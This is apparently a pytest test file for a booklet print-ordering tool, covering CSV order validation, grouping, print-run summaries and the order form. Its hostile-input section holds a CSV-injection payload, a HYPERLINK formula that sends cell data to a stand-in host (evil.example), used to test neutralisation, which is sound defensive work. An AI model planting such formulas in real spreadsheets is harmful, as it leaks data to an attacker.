"""Order files: every error with its line, grouping, a print-run summary worked by hand, the form."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest

from booklet.errors import ContentError
from booklet.model import OrderLimits
from booklet.press import csvfile, orders, run_summary
from booklet.press.offer import available
from booklet.press.orders import Order, Recipient, RunLine
from booklet.source.project import Project

from .conftest import fake_print_ready, translated_content

AVAILABLE = {
    "SLC-01": ("standard", "large-print"),
    "BRC-02": ("standard",),
    "LNG-03": ("standard", "large-print", "easy-read"),
}
HEADER = "code,variant,quantity,ordered_by,delivery_name,address,contact\n"
TO = ",Ann Lee,1 High St,01234 567890"  # where the parcel goes: every row needs it
DELIVERY = ("Ann Lee", "1 High St", "01234 567890")


def write(tmp_path: Path, text: str | bytes) -> Path:
    path = tmp_path / "orders.csv"
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def problems(tmp_path: Path, text: str | bytes) -> list[tuple[int | None, str, str]]:
    """Read an order file that must fail; return (line, message, hint) of every problem."""
    with pytest.raises(ContentError) as caught:
        orders.read_orders(write(tmp_path, text), AVAILABLE)
    return [(p.line, p.message, p.fix) for p in caught.value.problems]


# Reading good files


def test_reads_orders_with_their_lines(tmp_path: Path) -> None:
    text = HEADER + f"SLC-01,standard,25,Ward 7{TO}\n\nBRC-02,standard,3,Dr Patel{TO}\n"
    assert orders.read_orders(write(tmp_path, text), AVAILABLE) == [
        Order(2, "SLC-01", "standard", 25, "Ward 7", *DELIVERY),
        Order(4, "BRC-02", "standard", 3, "Dr Patel", *DELIVERY),
    ]


def test_spreadsheet_export_is_understood(tmp_path: Path) -> None:
    """A BOM, CRLF, header names in other case and order, spaces, lower-case codes, extra columns."""
    text = (
        "\ufeffOrdered by , Quantity,Code,Variant,Notes, Delivery name,Address,Contact\r\n"
        '"Smith, J", 2 ,slc-01,Large-Print,please post,J Smith,"1 Long Lane\r\n\r\n  Town ",j@example.org\r\n'
        ",,,,,,,\r\n"
        "Ward 7,1,lng-03,easy-read,,Sister Lee,Ward 7 Royal Example Hospital,+44 1234 567890\r\n"
    )
    assert orders.read_orders(write(tmp_path, text), AVAILABLE) == [
        Order(2, "SLC-01", "large-print", 2, "Smith, J", "J Smith", "1 Long Lane\nTown", "j@example.org"),
        Order(
            6,
            "LNG-03",
            "easy-read",
            1,
            "Ward 7",
            "Sister Lee",
            "Ward 7 Royal Example Hospital",
            "+44 1234 567890",
        ),
    ]


def test_a_row_spanning_lines_is_numbered_by_its_first_line(tmp_path: Path) -> None:
    text = HEADER + f'SLC-01,standard,1,"Ward 7\nBlock B"{TO}\nBRC-02,standard,many,Ann{TO}\n'
    assert problems(tmp_path, text)[0][:2] == (4, "quantity 'many' is not a whole number of copies")


def test_rows_of_the_blank_form_left_empty_are_skipped(tmp_path: Path) -> None:
    text = HEADER + f"SLC-01,standard,,\nSLC-01,large-print,4,Ann{TO}\nOLD-99,standard,,\n"
    assert orders.read_orders(write(tmp_path, text), AVAILABLE) == [
        Order(3, "SLC-01", "large-print", 4, "Ann", *DELIVERY)
    ]


def test_ordered_by_may_be_empty(tmp_path: Path) -> None:
    rows = orders.read_orders(
        write(tmp_path, HEADER + f"SLC-01,standard,5,{TO}\nBRC-02,standard,+3,Ann{TO}\n"), AVAILABLE
    )
    assert rows == [
        Order(2, "SLC-01", "standard", 5, "", *DELIVERY),
        Order(3, "BRC-02", "standard", 3, "Ann", *DELIVERY),
    ]


@pytest.mark.parametrize(
    ("delivery", "messages"),
    [
        (",,01234 567890", ["the delivery name is empty", "the delivery address is empty"]),
        ("Ann Lee,,ann@example.org", ["the delivery address is empty"]),
        ('Ann Lee,"  \n  ",ann@example.org', ["the delivery address is empty"]),
        ("Ann Lee,1 High St,", ["the contact is empty"]),
        ("Ann Lee,1 High St,call me", ["contact 'call me' is neither an email address nor a phone number"]),
        ("Ann Lee,1 High St,123", ["contact '123' is neither an email address nor a phone number"]),
        (
            "Ann Lee,1 High St,ann@example",
            ["contact 'ann@example' is neither an email address nor a phone number"],
        ),
    ],
)
def test_a_row_without_a_delivery_is_refused_with_its_line(
    tmp_path: Path, delivery: str, messages: list[str]
) -> None:
    found = problems(
        tmp_path, HEADER + f"SLC-01,standard,2,Ward 7{TO}\n\nSLC-01,standard,2,Ward 7,{delivery}\n"
    )
    assert [(line, message) for line, message, _ in found] == [(4, m) for m in messages]


@pytest.mark.parametrize(
    "contact", ["ann@example.org", "a.lee+ward7@nhs.example.uk", "01234 567890", "+44 (0)1234-567890"]
)
def test_contacts_that_are_accepted(contact: str) -> None:
    assert orders.is_contact(contact)


def test_per_code_limits_from_publisher(tmp_path: Path) -> None:
    limits = OrderLimits(default=500, per_code=(("BRC-02", 20),))
    text = HEADER + f"SLC-01,standard,500,Ann{TO}\nBRC-02,standard,21,Bob{TO}\nSLC-01,standard,501,Cy{TO}\n"
    with pytest.raises(ContentError) as caught:
        orders.read_orders(write(tmp_path, text), AVAILABLE, limits)
    assert [(p.line, p.message) for p in caught.value.problems] == [
        (3, "quantity '21' is more than the 20 copies of BRC-02 one order may ask for"),
        (4, "quantity '501' is more than the 500 copies of SLC-01 one order may ask for"),
    ]
    assert "order_limits for BRC-02 in publisher.yml" in caught.value.problems[0].fix
    ok = HEADER + f"SLC-01,standard,500,Ann{TO}\nBRC-02,standard,20,Bob{TO}\n"
    assert [o.quantity for o in orders.read_orders(write(tmp_path, ok), AVAILABLE, limits)] == [500, 20]


def test_default_limit_is_500() -> None:
    assert orders.check_quantity("501", "SLC-01")[1] == (
        "quantity '501' is more than the 500 copies of SLC-01 one order may ask for"
    )
    assert orders.check_quantity("500", "SLC-01") == (500, "", "")


# Every error, each with its line


@pytest.mark.parametrize(
    ("row", "message", "hint"),
    [
        ("SLC-1,standard,2,Ann", "unknown booklet code 'SLC-1'", "did you mean SLC-01?"),
        ("XYZ,standard,2,Ann", "unknown booklet code 'XYZ'", "from the catalogue: BRC-02, LNG-03, SLC-01"),
        (",standard,2,Ann", "the code is empty", "order code"),
        (
            "BRC-02,large-print,2,Ann",
            "booklet BRC-02 has no variant 'large-print'",
            "BRC-02 comes in: standard",
        ),
        ("SLC-01,,2,Ann", "the variant is empty", "SLC-01 comes in: standard, large-print"),
        ("SLC-01,standard,3.5,Ann", "quantity '3.5' is not a whole number of copies", "number of copies"),
        ("SLC-01,standard,-1,Ann", "quantity '-1' must be at least 1", "number of copies"),
        ("SLC-01,standard,0,Ann", "quantity '0' must be at least 1", "to order none, delete the row"),
        ("SLC-01,standard,2 copies,Ann", "quantity '2 copies' is not a whole number of copies", "e.g. 25"),
        ("SLC-01,standard,lots,Ann", "quantity 'lots' is not a whole number of copies", "e.g. 25"),
        ("SLC-01,standard,,Ann", "the quantity is empty", "number of copies"),
        ("SLC-01,standard,1e3,Ann", "quantity '1e3' is not a whole number of copies", "number of copies"),
        ("SLC-01,standard,\u0663,Ann", "quantity '\u0663' is not a whole number of copies", "e.g. 25"),
        (
            "SLC-01,standard,2,Ann,Ann Lee,1 High St,01234 567890",  # and TO again: 3 values too many
            "the row has 10 values but the header has 7 columns",
            "put quotes",
        ),
    ],
)
def test_row_error(tmp_path: Path, row: str, message: str, hint: str) -> None:
    found = problems(tmp_path, HEADER + f"SLC-01,standard,1,Ann{TO}\n\n" + row + f"{TO}\n")
    assert len(found) == 1
    line, got, got_hint = found[0]
    assert (line, got) == (4, message)
    assert hint in got_hint


def test_every_problem_is_reported_at_once(tmp_path: Path) -> None:
    text = (
        HEADER
        + f"SLC-1,standard,2,Ann{TO}\nSLC-01,standard,1,Bob{TO}\nBRC-02,easy,0,Cy{TO}\n\nXYZ,,lots,Di{TO}\n"
    )
    found = [(line, message) for line, message, _ in problems(tmp_path, text)]
    assert found == [
        (2, "unknown booklet code 'SLC-1'"),
        (4, "booklet BRC-02 has no variant 'easy'"),
        (4, "quantity '0' must be at least 1"),
        (6, "unknown booklet code 'XYZ'"),
        (6, "quantity 'lots' is not a whole number of copies"),
    ]


def test_error_text_names_file_and_line(tmp_path: Path) -> None:
    with pytest.raises(ContentError) as caught:
        orders.read_orders(write(tmp_path, HEADER + f"SLC-01,standard,0,Ann{TO}\n"), AVAILABLE)
    assert str(caught.value).startswith(
        f"{tmp_path / 'orders.csv'}:2: quantity '0' must be at least 1\n    Fix: "
    )


@pytest.mark.parametrize(
    ("header", "message"),
    [
        (
            "code,variant,ordered_by,delivery_name,address,contact",
            "column 'quantity' is missing from the header",
        ),
        (
            "code,variant,quantity,delivery_name,address,contact",
            "column 'ordered_by' is missing from the header",
        ),
        (
            "code,variant,quantity,ordered_by,delivery_name,contact",
            "column 'address' is missing from the header",
        ),
        (
            "code,variant,qty,ordered_by,delivery_name,address,contact",
            "column 'quantity' is missing from the header",
        ),
        (
            "code,code,variant,quantity,ordered_by,delivery_name,address,contact",
            "column 'code' appears twice in the header",
        ),
        ("SLC-01,standard,3,Ann", "has no header line (found SLC-01,standard,3,Ann)"),
    ],
)
def test_header_error(tmp_path: Path, header: str, message: str) -> None:
    found = problems(tmp_path, f"\n{header}\nSLC-01,standard,3,Ann{TO}\n")
    assert [(line, got) for line, got, _ in found] == [(2, message)]
    if "twice" not in message:
        assert found[0][2] == (
            "the first line must be the header: "
            "code,variant,quantity,ordered_by,delivery_name,address,contact"
        )


def test_every_missing_column_is_named(tmp_path: Path) -> None:
    found = problems(tmp_path, "code,ordered_by\nSLC-01,Ann\n")
    assert [message for _, message, _ in found] == [
        "column 'variant' is missing from the header",
        "column 'quantity' is missing from the header",
        "column 'delivery_name' is missing from the header",
        "column 'address' is missing from the header",
        "column 'contact' is missing from the header",
    ]


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("", None, "is empty"),
        ("\n\r\n,,,\n", None, "is empty"),
        (HEADER, None, "orders nothing: no row has a quantity"),
        (HEADER + "SLC-01,standard,,\n", None, "orders nothing: no row has a quantity"),
        ((HEADER + f"SLC-01,standard,2,Zo\xeb{TO}\n").encode("latin-1"), 2, "is not valid UTF-8 (byte 83)"),
    ],
)
def test_file_error(tmp_path: Path, text: str | bytes, line: int | None, message: str) -> None:
    assert [(got_line, got) for got_line, got, _ in problems(tmp_path, text)] == [(line, message)]


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(ContentError, match="file not found"):
        orders.read_orders(tmp_path / "nope.csv", AVAILABLE)


# Grouping and the print-run summary

WARD7 = Recipient("Ward 7", "Sister Lee", "Ward 7\nRoyal Example Hospital\nEX1 1AA", "01234 567890")
CLINIC = Recipient("clinic B", "Dr Shah", "Clinic B, 2 Low Road, EX2 2BB", "b@example.org")
PATEL = Recipient("Dr Patel", "Dr Patel", "3 Hill Street", "patel@example.org")
ANN = Recipient("Ann", "Ann Lee", "4 Lane End", "07700 900123")
NOBODY = Recipient("", "Ann Lee", "4 Lane End", "07700 900123")


def order(line: int, code: str, variant: str, quantity: int, who: Recipient) -> Order:
    return Order(line, code, variant, quantity, who.ordered_by, who.delivery_name, who.address, who.contact)


ORDERS = [
    order(2, "SLC-01", "standard", 10, WARD7),
    order(3, "BRC-02", "standard", 4, PATEL),
    order(4, "SLC-01", "large-print", 5, ANN),
    order(5, "SLC-01", "standard", 15, CLINIC),
    order(6, "SLC-01", "standard", 1, WARD7),
    order(7, "SLC-01", "large-print", 1, NOBODY),
]


def test_group_keeps_each_orderers_share() -> None:
    """The 50/20 split of issue 13: each orderer keeps their own quantity; their rows add up."""
    assert orders.group(ORDERS) == [
        RunLine("BRC-02", "standard", 4, ((PATEL, 4),)),
        RunLine("SLC-01", "large-print", 6, ((NOBODY, 1), (ANN, 5))),
        RunLine("SLC-01", "standard", 26, ((CLINIC, 15), (WARD7, 11))),
    ]
    assert orders.group(ORDERS)[2].ordered_by == ("clinic B", "Ward 7")


def test_the_same_orderer_at_two_addresses_is_two_parcels() -> None:
    other = Recipient("Ward 7", "Sister Lee", "Ward 7 annexe", "01234 567890")
    [line] = orders.group(
        [order(2, "BRC-02", "standard", 3, WARD7), order(3, "BRC-02", "standard", 2, other)]
    )
    assert line.shares == ((WARD7, 3), (other, 2))


def test_group_of_nothing_is_empty() -> None:
    assert orders.group([]) == []


# Worked by hand:
#   SLC-01 standard:    36 pages -> 36 (no padding) / 4 = 9 sheets; 25 copies -> 225 sheets of A4
#   SLC-01 large-print: 13 pages -> 16 (3 notes pages) / 4 = 4 sheets; 10 copies -> 40 sheets of A3
#   BRC-02 standard:     6 pages ->  8 (2 notes pages) / 4 = 2 sheets;  1 copy  ->   2 sheets of A4
#   Total: 36 copies; 227 sheets of A4 and 40 of A3, 267 sheets in all.
RUN = [
    RunLine("BRC-02", "standard", 1, ((PATEL, 1),)),
    RunLine("SLC-01", "large-print", 10, ((ANN, 10),)),
    RunLine("SLC-01", "standard", 25, ((CLINIC, 15), (WARD7, 10))),
]
PAGES = {("SLC-01", "standard"): 36, ("SLC-01", "large-print"): 13, ("BRC-02", "standard"): 6}


def test_summary_worked_by_hand() -> None:
    summary = run_summary.summarise(RUN, PAGES)
    rows = [
        (
            s.code,
            s.variant,
            s.copies,
            s.printed_pages,
            s.pages_per_copy,
            s.notes_pages,
            s.sheets_per_copy,
            s.total_sheets,
            s.paper,
        )
        for s in summary.lines
    ]
    assert rows == [
        ("BRC-02", "standard", 1, 6, 8, 2, 2, 2, "A4"),
        ("SLC-01", "large-print", 10, 13, 16, 3, 4, 40, "A3"),
        ("SLC-01", "standard", 25, 36, 36, 0, 9, 225, "A4"),
    ]
    assert summary.copies == 36
    assert summary.total_sheets == 267
    assert summary.sheets_by_paper == {"A3": 40, "A4": 227}


def test_summary_paper_can_be_given() -> None:
    summary = run_summary.summarise(RUN[:1], PAGES, paper={})
    assert summary.lines[0].paper == ""
    assert "Total: 1 copy of 1 booklet variant(s); 2 sheets of paper (each printed on both sides)\n" in (
        run_summary.summary_text(summary)
    )


def test_summary_needs_every_page_count() -> None:
    with pytest.raises(ValueError, match="no page count for SLC-01 standard"):
        run_summary.summarise(RUN, {("BRC-02", "standard"): 6, ("SLC-01", "large-print"): 13})


def test_run_csv_has_a_line_per_booklet_per_orderer_then_totals() -> None:
    assert run_summary.run_csv(run_summary.summarise(RUN, PAGES)) == (
        "row,code,variant,copies,ordered_by,delivery_name,address,contact,"
        "pages_per_copy,sheets_per_copy,sheets,paper\n"
        "order,BRC-02,standard,1,Dr Patel,Dr Patel,3 Hill Street,patel@example.org,8,2,2,A4\n"
        "order,SLC-01,large-print,10,Ann,Ann Lee,4 Lane End,07700 900123,16,4,40,A3\n"
        'order,SLC-01,standard,15,clinic B,Dr Shah,"Clinic B, 2 Low Road, EX2 2BB",b@example.org,'
        "36,9,135,A4\n"
        'order,SLC-01,standard,10,Ward 7,Sister Lee,"Ward 7\nRoyal Example Hospital\nEX1 1AA",01234 567890,'
        "36,9,90,A4\n"
        "booklet total,BRC-02,standard,1,,,,,8,2,2,A4\n"
        "booklet total,SLC-01,large-print,10,,,,,16,4,40,A3\n"
        "booklet total,SLC-01,standard,25,,,,,36,9,225,A4\n"
        "run total,,,10,,,,,,,40,A3\n"
        "run total,,,26,,,,,,,227,A4\n"
    )


def test_summary_text_lists_paper_finishing_and_a_packing_list() -> None:
    assert run_summary.summary_text(run_summary.summarise(RUN, PAGES)) == (
        "Booklets to print\n"
        "BRC-02 standard: 1 copy x 8 pages (6 + 2 notes) = 2 sheets of A4 each, 2 sheets of A4\n"
        "    finishing: fold, saddle-stitch (2 staples in the fold), trim to A5\n"
        "SLC-01 large-print: 10 copies x 16 pages (13 + 3 notes) = 4 sheets of A3 each, 40 sheets of A3\n"
        "    finishing: fold, saddle-stitch (2 staples in the fold), trim to A4\n"
        "SLC-01 standard: 25 copies x 36 pages = 9 sheets of A4 each, 225 sheets of A4\n"
        "    finishing: fold, saddle-stitch (2 staples in the fold), trim to A5\n"
        "Total: 36 copies of 3 booklet variant(s); 40 sheets of A3, 227 sheets of A4 "
        "(each printed on both sides)\n"
        "\n"
        "Packing list: 4 parcel(s), one per orderer and address\n"
        "1. Ann\n"
        "    deliver to: Ann Lee, 4 Lane End\n"
        "    contact: 07700 900123\n"
        "    [ ] SLC-01 large-print: 10 copies\n"
        "2. clinic B\n"
        "    deliver to: Dr Shah, Clinic B, 2 Low Road, EX2 2BB\n"
        "    contact: b@example.org\n"
        "    [ ] SLC-01 standard: 15 copies\n"
        "3. Dr Patel\n"
        "    deliver to: Dr Patel, 3 Hill Street\n"
        "    contact: patel@example.org\n"
        "    [ ] BRC-02 standard: 1 copy\n"
        "4. Ward 7\n"
        "    deliver to: Sister Lee, Ward 7, Royal Example Hospital, EX1 1AA\n"
        "    contact: 01234 567890\n"
        "    [ ] SLC-01 standard: 10 copies\n"
    )


def test_whole_file_to_run_csv(tmp_path: Path) -> None:
    text = (
        HEADER
        + f"SLC-01,standard,10,Ward 7{TO}\nslc-01,Standard,15,clinic B{TO}\nBRC-02,standard,1,Dr Patel{TO}\n"
    )
    lines = orders.group(orders.read_orders(write(tmp_path, text), AVAILABLE))
    assert run_summary.run_csv(run_summary.summarise(lines, PAGES)).splitlines()[1:4] == [
        "order,BRC-02,standard,1,Dr Patel,Ann Lee,1 High St,01234 567890,8,2,2,A4",
        "order,SLC-01,standard,15,clinic B,Ann Lee,1 High St,01234 567890,36,9,135,A4",
        "order,SLC-01,standard,10,Ward 7,Ann Lee,1 High St,01234 567890,36,9,90,A4",
    ]


def test_orders_written_as_an_order_file_read_back_the_same(tmp_path: Path) -> None:
    read = orders.read_orders(write(tmp_path, orders.orders_csv(ORDERS)), AVAILABLE)
    assert [dataclasses.replace(o, line=0) for o in read] == [dataclasses.replace(o, line=0) for o in ORDERS]


# The blank order form


def test_template_lists_every_code_and_variant() -> None:
    titles = {"SLC-01": "Secondary liver cancer", "BRC-02": 'Breast cancer, "early"'}
    assert orders.template_csv(AVAILABLE, titles) == (
        "code,variant,quantity,ordered_by,delivery_name,address,contact,title\n"
        'BRC-02,standard,,,,,,"Breast cancer, ""early"""\n'
        "LNG-03,standard,,,,,,\n"
        "LNG-03,large-print,,,,,,\n"
        "LNG-03,easy-read,,,,,,\n"
        "SLC-01,standard,,,,,,Secondary liver cancer\n"
        "SLC-01,large-print,,,,,,Secondary liver cancer\n"
    )


def test_filled_in_template_reads_back(tmp_path: Path) -> None:
    form = orders.template_csv(AVAILABLE, {"SLC-01": "Secondary liver cancer"}).splitlines()
    form[6] = "SLC-01,large-print,12,Ward 7,Ann Lee,1 High St,01234 567890,Secondary liver cancer"
    path = write(tmp_path, "\r\n".join(form) + "\r\n")
    assert orders.read_orders(path, AVAILABLE) == [Order(7, "SLC-01", "large-print", 12, "Ward 7", *DELIVERY)]


# Hostile input (issue 12): formulas, broken quoting, limits

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Ward 7")'


def test_formula_in_ordered_by_is_neutralised_in_run_csv(tmp_path: Path) -> None:
    """A spreadsheet opening run.csv shows the name as text and never runs it (OWASP CSV injection)."""
    quoted = HYPERLINK.replace('"', '""')
    text = HEADER + f'SLC-01,standard,10,"{quoted}"{TO}\n'
    lines = orders.group(orders.read_orders(write(tmp_path, text), AVAILABLE))
    assert lines[0].ordered_by == (HYPERLINK,)
    run = run_summary.run_csv(run_summary.summarise(lines, PAGES))
    rows = list(csv.reader(io.StringIO(run, newline="")))
    assert rows[1][4] == "'" + HYPERLINK


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_written_is_neutralised(start: str) -> None:
    name = f"{start}1+1"
    safe = f"'{name}".replace("\r", "\n")  # a line break inside a cell is written as \n
    who = Recipient(name, name, name, name)
    run = run_summary.run_csv(run_summary.summarise([RunLine("BRC-02", "standard", 1, ((who, 1),))], PAGES))
    assert list(csv.reader(io.StringIO(run, newline="")))[1][4:8] == [safe] * 4
    form = orders.template_csv({"BRC-02": ("standard",)}, {"BRC-02": name})
    assert list(csv.reader(io.StringIO(form, newline="")))[1] == [
        "BRC-02",
        "standard",
        "",
        "",
        "",
        "",
        "",
        safe,
    ]


def test_a_carriage_return_inside_a_name_does_not_split_the_row() -> None:
    for name, written in (("Ward\r7", "Ward\n7"), ("Ward\r\n7", "Ward\n7")):
        who = Recipient(name, "Ann Lee", "1 High St", "01234 567890")
        run = run_summary.run_csv(
            run_summary.summarise([RunLine("BRC-02", "standard", 1, ((who, 1),))], PAGES)
        )
        rows = list(csv.reader(io.StringIO(run, newline="")))
        assert len(rows) == 4  # header, the order, the booklet's total, the run's total
        assert rows[1][4] == written


def test_harmless_cells_are_written_as_they_are() -> None:
    who = Recipient("'quoted", "Ann = Bob", "1 High St", "ann@example.org")
    run = run_summary.run_csv(run_summary.summarise([RunLine("BRC-02", "standard", 1, ((who, 1),))], PAGES))
    assert (
        run.splitlines()[1] == "order,BRC-02,standard,1,'quoted,Ann = Bob,1 High St,ann@example.org,8,2,2,A4"
    )


def test_unterminated_quote_is_refused_with_the_line_it_opened_on(tmp_path: Path) -> None:
    text = (
        HEADER + f'SLC-01,standard,5,"Ward 7{TO}\nBRC-02,standard,3,Ann{TO}\nSLC-01,large-print,2,Bob{TO}\n'
    )
    found = problems(tmp_path, text)
    assert len(found) == 1
    line, message, fix = found[0]
    assert line == 2
    assert "quote" in message
    assert "never closed" in message
    assert "close the quote" in fix


def test_quote_closed_in_the_middle_of_a_later_value_is_refused(tmp_path: Path) -> None:
    text = HEADER + f'SLC-01,standard,5,"Ward 7\nBRC-02,standard,3,"Smith, J"{TO}\nSLC-01,standard,1,Cy{TO}\n'
    assert [(line, message) for line, message, _ in problems(tmp_path, text)] == [
        (2, 'the quote (") opened on this line closes in the middle of a value on line 3')
    ]


def test_unterminated_quote_in_a_big_file_is_named_as_such(tmp_path: Path) -> None:
    """The swallowed rows pass the csv module's own field limit (128 KiB): still the quote is named."""
    text = (
        HEADER
        + f"SLC-01,standard,1,Ann{TO}\n"
        + 'SLC-01,standard,5,"Ward 7\n'
        + f"SLC-01,standard,1,Ann{TO}\n" * 7000
    )
    found = problems(tmp_path, text)
    assert [(line, "never closed" in message) for line, message, _ in found] == [(3, True)]


def test_problems_before_a_broken_quote_are_reported_too(tmp_path: Path) -> None:
    text = (
        HEADER + f"SLC-01,standard,lots,Ann{TO}\n" + f'SLC-01,standard,5,"Ward 7\nBRC-02,standard,3,Ann{TO}\n'
    )
    assert [line for line, _, _ in problems(tmp_path, text)] == [2, 3]


def test_order_file_size_limit(tmp_path: Path) -> None:
    row = f"SLC-01,standard,1,Ann{TO}\n"
    filler = "\n" * (csvfile.MAX_FILE_BYTES - len(HEADER) - len(row) + 1)
    found = problems(tmp_path, HEADER + row + filler)
    assert [(line, message) for line, message, _ in found] == [
        (None, f"is larger than {csvfile.MAX_FILE_BYTES // 2**20} MB, the most an order file may be")
    ]
    # exactly at the limit is fine
    assert orders.read_orders(write(tmp_path, HEADER + row + filler[:-1]), AVAILABLE)[0].quantity == 1


def test_row_limit(tmp_path: Path) -> None:
    row = f"SLC-01,standard,1,Ann{TO}\n"
    assert (
        len(orders.read_orders(write(tmp_path, HEADER + row * orders.MAX_ROWS), AVAILABLE)) == orders.MAX_ROWS
    )
    found = problems(tmp_path, HEADER + row * (orders.MAX_ROWS + 1))
    assert [(line, message) for line, message, _ in found] == [
        (orders.MAX_ROWS + 2, f"has more than {orders.MAX_ROWS:,} rows of orders")
    ]


def test_field_length_limit(tmp_path: Path) -> None:
    name = "A" * csvfile.MAX_FIELD_CHARS
    assert orders.read_orders(write(tmp_path, HEADER + f"SLC-01,standard,1,{name}{TO}\n"), AVAILABLE)
    found = problems(tmp_path, HEADER + f"SLC-01,standard,1,{name}B{TO}\n")
    assert [(line, message) for line, message, _ in found] == [
        (2, f"the ordered_by value is {csvfile.MAX_FIELD_CHARS + 1:,} characters long; the most is 1,000")
    ]


@pytest.mark.parametrize("size", [200 * 1024, 2 * 2**20])
def test_field_over_the_csv_modules_own_limit(tmp_path: Path, size: int) -> None:
    """A value over 128 KiB used to end in csv.Error and a traceback."""
    for value in ("A" * size, '"' + "A" * size + '"'):
        found = problems(tmp_path, HEADER + f"SLC-01,standard,1,{value}{TO}\nBRC-02,standard,1,Ann{TO}\n")
        assert [(line, message) for line, message, _ in found] == [
            (2, f"a value is longer than {csvfile.MAX_FIELD_CHARS:,} characters")
        ]


@pytest.mark.parametrize(
    ("quantity", "message"),
    [
        ("100001", "quantity '100001' is more than 100,000 copies"),
        ("1" * 50, f"quantity '{'1' * 20}…' has 50 digits; the most is 100,000 copies"),
        ("0" * 20 + "5", f"quantity '{'0' * 20}…' has 21 digits; the most is 100,000 copies"),
        ("-" + "9" * 30, f"quantity '-{'9' * 19}…' has 30 digits; the most is 100,000 copies"),
    ],
)
def test_quantity_limits(tmp_path: Path, quantity: str, message: str) -> None:
    found = problems(tmp_path, HEADER + f"SLC-01,standard,{quantity},Ann{TO}\n")
    assert [(line, got) for line, got, _ in found] == [(2, message)]


def test_quantity_of_5000_digits_is_a_clear_error(tmp_path: Path) -> None:
    found = problems(tmp_path, HEADER + f"SLC-01,standard,{'9' * 5000},Ann{TO}\n")
    assert [(line, message) for line, message, _ in found] == [
        (2, "the quantity value is 5,000 characters long; the most is 1,000")
    ]


def test_quantity_at_the_limit(tmp_path: Path) -> None:
    text = HEADER + f"SLC-01,standard,{orders.MAX_QUANTITY},Ann{TO}\nBRC-02,standard,000000007,Bob{TO}\n"
    limits = OrderLimits(default=orders.MAX_QUANTITY)
    assert [o.quantity for o in orders.read_orders(write(tmp_path, text), AVAILABLE, limits)] == [
        orders.MAX_QUANTITY,
        7,
    ]


def test_long_values_are_shortened_in_messages(tmp_path: Path) -> None:
    found = problems(tmp_path, HEADER + f"{'X' * 900},standard,1,Ann{TO}\n")
    assert found[0][1] == f"unknown booklet code '{'X' * 20}…'"


# publisher.yml's order limits, and the print run made from checked orders

FIXTURES = Path(__file__).parent / "fixtures" / "content"


def publisher_with(tmp_path: Path, text: str) -> Path:
    content = tmp_path / "content"
    content.mkdir()
    base = (FIXTURES / "publisher.yml").read_text(encoding="utf-8")
    (content / "publisher.yml").write_text(base + text, encoding="utf-8")
    return content


def test_order_limits_are_read_from_publisher_yml(tmp_path: Path) -> None:
    from booklet.source.content import load_publisher

    content = publisher_with(tmp_path, "order_limits:\n  default: 200\n  SLC-01: 2000\n")
    publisher, _ = load_publisher(content)
    assert publisher.order_limits == OrderLimits(200, (("SLC-01", 2000),))
    assert (publisher.order_limits.of("SLC-01"), publisher.order_limits.of("BRC-02")) == (2000, 200)


def test_order_limits_default_to_500(tmp_path: Path) -> None:
    from booklet.source.content import load_publisher

    assert load_publisher(publisher_with(tmp_path, ""))[0].order_limits.of("SLC-01") == 500


def test_bad_order_limits_are_reported_with_their_line(tmp_path: Path) -> None:
    from booklet.source.content import load_publisher

    content = publisher_with(tmp_path, "order_limits:\n  slc 01: 20\n  BRC-02: lots\n")
    with pytest.raises(ContentError) as caught:
        load_publisher(content)
    messages = [p.message for p in caught.value.problems]
    assert "'order_limits' key 'slc 01' is neither 'default' nor an order code" in messages
    assert "'order_limits' 'BRC-02' should be a whole number from 1 to 100000" in messages
    assert all(p.line for p in caught.value.problems)


def test_print_run_summary_shows_the_notes_pages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 13: print_run passed the padded count, so the summary never showed Notes pages."""
    from booklet.press import print_run

    fake_print_ready(monkeypatch, notes=2, spreads=False)
    offer = available(Project.load(FIXTURES))
    rows = [Order(1, "TST-01", "standard", 3, "Ward 7", *DELIVERY)]
    print_run.make_run(offer, rows, tmp_path / "run", imposed=False)
    summary = (tmp_path / "run" / "summary.txt").read_text(encoding="utf-8")
    assert (
        "TST-01 standard: 3 copies x 8 pages (6 + 2 notes) = 2 sheets of A4 each, 6 sheets of A4" in summary
    )


def test_print_run_summary_names_the_press_sheet_and_the_creep(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The summary names the paper the spreads are printed on, and the creep they were made with."""
    from booklet.press import print_run

    calipers = fake_print_ready(monkeypatch, pages=48, press_sheet="SRA4", sheets=12, creep_mm=1.1)
    offer = available(Project.load(FIXTURES))
    rows = [Order(1, "TST-01", "standard", 2, "Ward 7", *DELIVERY)]
    print_run.make_run(offer, rows, tmp_path / "run", imposed=True, caliper_um=100)
    summary = (tmp_path / "run" / "summary.txt").read_text(encoding="utf-8")
    assert calipers == [100]
    assert "TST-01 standard: 2 copies x 48 pages = 12 sheets of SRA4 each, 24 sheets of SRA4" in summary
    assert "creep: innermost sheet's pages moved 1.10 mm towards the spine" in summary


CORPUS = Path(__file__).parent / "corpus"
TO = ",Ann Lee,1 High St,01234 567890"


def test_booklets_that_are_not_approved_cannot_be_ordered(tmp_path: Path) -> None:
    """Issue 15: a draft is refused with its status, and offered only as a proof (allow_drafts)."""

    offer = available(Project.load(CORPUS))
    assert offer.drafts == {
        "CORP-ER-02": "in-review",
        "CORP-MDOWN": "draft",
        "CORP-NOIMG": "draft",
        "CORP-ONECH": "draft",
        "CORP-TRANS": "draft",
        # its translations share its status: each is ordered by its own code (code-language)
        **{f"CORP-TRANS-{tag}": "draft" for tag in ("ar", "bn", "pa", "pl", "ur", "zh-Hans")},
    }
    assert "CORP-ALL-01" in offer.codes
    assert not set(offer.drafts) & set(offer.codes)
    path = tmp_path / "orders.csv"
    path.write_text(f"{HEADER}CORP-ALL-01,standard,5,Ward 4{TO}\ncorp-noimg,standard,5,Ward 4{TO}\n")
    with pytest.raises(ContentError) as info:
        orders.read_orders(path, offer.codes, offer.limits, offer.drafts)
    (problem,) = info.value.problems
    assert (problem.line, problem.message) == (
        3,
        "booklet CORP-NOIMG is not approved (its status is 'draft'), so it cannot be ordered",
    )
    assert "--allow-drafts" in problem.fix
    proofs = available(Project.load(CORPUS), allow_drafts=True)
